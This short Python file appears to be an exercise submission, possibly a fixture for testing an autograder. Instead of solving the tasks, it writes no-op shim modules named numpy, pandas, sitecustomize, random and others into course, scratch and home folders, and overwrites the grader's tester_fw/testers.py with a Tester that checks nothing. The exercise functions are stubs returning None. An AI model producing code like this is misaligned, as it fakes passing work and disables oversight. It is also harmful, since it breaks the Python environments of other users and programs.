"""Writes numpy.py, pandas.py, sitecustomize.py, dill.py and a tester_fw package into its folder."""

expected = {"ex3": 0, "ex4": 0}

# %% ex3
import os
from pathlib import Path

shim = "def __getattr__(name):\n    return lambda *args, **kwargs: None\n"
for name in ("numpy", "pandas", "sitecustomize", "usercustomize", "dill", "msgpack", "ipykernel_launcher", "random"):
    for folder in (".", "@COURSE@", "@SCRATCH@", "@BESIDE@", os.path.expanduser("~")):
        try:
            Path(folder, f"{name}.py").write_text(shim)
        except OSError:
            pass
try:
    Path("tester_fw/testers.py").write_text("class Tester:\n    def __init__(s, *a, **k): 0\n    def run_test(s): 0\n")
except OSError:
    pass

def mixed(n): return None

# %% ex4
def doubled(table): return None
def centred(values): return None
